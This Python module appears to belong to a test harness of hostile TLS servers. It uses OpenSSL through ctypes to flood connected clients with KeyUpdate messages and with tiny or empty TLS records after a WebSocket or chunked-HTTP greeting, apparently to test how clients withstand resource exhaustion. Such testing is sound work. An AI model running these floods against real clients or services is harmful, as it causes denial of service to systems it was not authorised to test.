"""Attacks by TLS records: records with little content, and KeyUpdate messages (RFC 8446 §4.6.3).

Python's TLS cannot send KeyUpdate, so the server's end of these connections uses OpenSSL itself.
"""

from __future__ import annotations

import ctypes
import pathlib
import socket
from collections.abc import Callable

from servers.http1 import CHUNKED, EVENT, chunk, head
from servers.peer import Peer, attack
from servers.websockets import FIN, TEXT, frame, handshake

FILETYPE_PEM, UPDATE_NOT_REQUESTED, UPDATE_REQUESTED = 1, 0, 1
SET_GROUPS_LIST = 92
#: How many records are made before they are sent together.
RECORDS_AT_ONCE = 2000


class Pointer(ctypes.c_void_p):
    """Stays a pointer when a function returns it; `c_void_p` would become an int."""


class Library:
    def __init__(self) -> None:
        #: For calls that may wait: other threads run meanwhile.
        self.waiting = ctypes.CDLL("libssl.so.3")
        #: For short and frequent calls, for which a change of threads would cost more.
        self.short = ctypes.PyDLL("libssl.so.3")
        for name in ("TLS_server_method", "SSL_CTX_new", "SSL_new", "BIO_s_mem", "BIO_new"):
            getattr(self.short, name).restype = Pointer


class Context:
    """Certificate and key; replaces an `ssl.SSLContext`."""

    def __init__(self, chain_file: pathlib.Path) -> None:
        self.library = Library()
        library, name = self.library.short, str(chain_file).encode()
        self.pointer = library.SSL_CTX_new(library.TLS_server_method())
        if library.SSL_CTX_use_certificate_chain_file(self.pointer, name) != 1:
            raise OSError(f"{chain_file} has no certificate")
        if library.SSL_CTX_use_PrivateKey_file(self.pointer, name, FILETYPE_PEM) != 1:
            raise OSError(f"{chain_file} has no key")

    def set_groups(self, names: bytes) -> None:
        """Allows only these groups for the key exchange, by OpenSSL's names."""
        if self.library.short.SSL_CTX_ctrl(self.pointer, SET_GROUPS_LIST, 0, names) != 1:
            raise OSError(f"OpenSSL does not know {names!r}")

    def wrap_socket(self, connection: socket.socket, server_side: bool) -> socket.socket:
        assert server_side
        return Connection(connection, self)


class Connection(socket.socket):
    """TLS over a socket, with the operations that attacks need."""

    def __init__(self, connection: socket.socket, context: Context) -> None:
        super().__init__(fileno=connection.detach())
        self.library = context.library
        self._tls = self.library.short.SSL_new(context.pointer)
        self.library.short.SSL_set_fd(self._tls, self.fileno())
        if self.library.waiting.SSL_accept(self._tls) != 1:
            raise OSError("the TLS handshake failed")

    def recv(self, size: int, flags: int = 0) -> bytes:
        data = ctypes.create_string_buffer(size)
        count = self.library.waiting.SSL_read(self._tls, data, size)
        return data.raw[: max(count, 0)]

    def sendall(self, data: bytes, flags: int = 0) -> None:
        if self.library.waiting.SSL_write(self._tls, data, len(data)) != len(data):
            raise OSError("SSL_write failed")

    def flood_key_updates(self, kind: int) -> None:
        def make_record() -> None:
            self.library.short.SSL_key_update(self._tls, kind)
            self.library.short.SSL_do_handshake(self._tls)

        self._flood(make_record)

    def flood_records(self, data: bytes) -> None:
        """Repeats `data`, each time in its own record."""
        self._flood(lambda: self.library.short.SSL_write(self._tls, data, len(data)))

    def _flood(self, make_record: Callable[[], None]) -> None:
        short = self.library.short
        records = short.BIO_new(short.BIO_s_mem())
        short.SSL_set0_wbio(self._tls, records)
        data = ctypes.create_string_buffer(1 << 17)
        while True:
            for _ in range(RECORDS_AT_ONCE):
                make_record()
            count = short.BIO_read(records, data, len(data))
            super().sendall(memoryview(data)[:count])


def greet(peer: Peer) -> Connection:
    """Answers with something that each transport accepts as a beginning."""
    if peer.transport == "websocket":
        handshake(peer)
    else:
        peer.request()
        peer.send(head(peer, CHUNKED) + chunk(EVENT))
    assert isinstance(peer.connection, Connection)
    return peer.connection


@attack
def key_updates(peer: Peer) -> None:
    """Each requires an answer, which costs the client as much again."""
    connection = greet(peer)
    peer.drain()
    connection.flood_key_updates(UPDATE_REQUESTED)


@attack
def key_updates_unread(peer: Peer) -> None:
    """The server does not read the answers."""
    greet(peer).flood_key_updates(UPDATE_REQUESTED)


@attack
def key_updates_unasked(peer: Peer) -> None:
    """No answer is required."""
    greet(peer).flood_key_updates(UPDATE_NOT_REQUESTED)


@attack
def small_records(peer: Peer) -> None:
    """A message, or a chunk of an empty comment, in each record."""
    connection = greet(peer)
    peer.drain()
    is_websocket = peer.transport == "websocket"
    connection.flood_records(frame(FIN | TEXT, b"a") if is_websocket else chunk(b":\n"))


@attack
def empty_records(peer: Peer) -> None:
    """Records without content (RFC 8446 §5.1)."""
    greet(peer).flood_records(b"")
